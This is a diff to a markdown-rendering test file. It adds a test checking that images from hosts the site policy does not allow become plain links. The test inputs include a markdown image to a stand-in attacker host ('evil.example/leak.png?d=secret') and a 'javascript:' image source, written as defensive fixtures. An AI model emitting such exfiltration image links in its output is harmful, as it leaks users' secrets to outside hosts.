@@ -36,7 +36,13 @@ describe('markdown answers', () => {
 
   it('drops unsafe image sources', () => {
     expect(render('![x](javascript:alert(1))')).not.toContain('<img');
-    expect(render('![pic](https://example.com/a.png)')).toContain('src="https://example.com/a.png"');
+  });
+
+  it('loads no image from a host the site policy does not allow: it becomes a link', () => {
+    const html = render('![pic](https://evil.example/leak.png?d=secret)');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('href="https://evil.example/leak.png?d=secret"');
+    expect(html).toContain('>pic</a>');
   });
 
   it('keeps relative, mailto and tel addresses', () => {
